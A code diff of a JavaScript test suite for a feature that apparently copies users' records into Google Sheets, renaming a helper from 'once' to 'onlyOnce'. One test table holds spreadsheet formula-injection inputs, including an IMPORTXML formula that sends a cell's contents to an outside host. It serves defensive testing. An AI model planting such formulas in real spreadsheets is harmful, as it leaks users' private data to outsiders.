@@ -16,7 +16,7 @@ const HEADER = [
   'Notes',
 ];
 
-onEveryDatabase((place, once) => {
+onEveryDatabase((place, onlyOnce) => {
   const settings = {};
   const google = standInForSheets(settings);
   const test = testApp(place, settings);
@@ -119,7 +119,7 @@ onEveryDatabase((place, once) => {
     expect(await spreadsheetOf(user)).toMatchObject({ state: 'current' });
   });
 
-  once(() => {
+  onlyOnce(() => {
     it.each([
       '=1+1',
       '=IMPORTXML("https://example.org/"&A1,"//a")',
@@ -182,7 +182,7 @@ onEveryDatabase((place, once) => {
     expect(google.sheets.valuesOf(google.bookOf(user), 'My doctor')).toHaveLength(2);
   });
 
-  once(() => {
+  onlyOnce(() => {
     it('a sheet whose title has other capitals is the same one', async () => {
       const user = await mirrored();
       const [sheet] = google.bookOf(user)?.sheets ?? [];
@@ -194,7 +194,7 @@ onEveryDatabase((place, once) => {
     });
   });
 
-  once(() => {
+  onlyOnce(() => {
     it('many long notes come in several requests, none of them large', async () => {
       const user = await mirrored();
       const notes = 'long '.repeat(2000);
@@ -214,7 +214,7 @@ onEveryDatabase((place, once) => {
     });
   });
 
-  once(() => {
+  onlyOnce(() => {
     it('writes at most 60 times in a minute for one person, however often they save', async () => {
       const user = await mirrored();
       const begun = test.now;
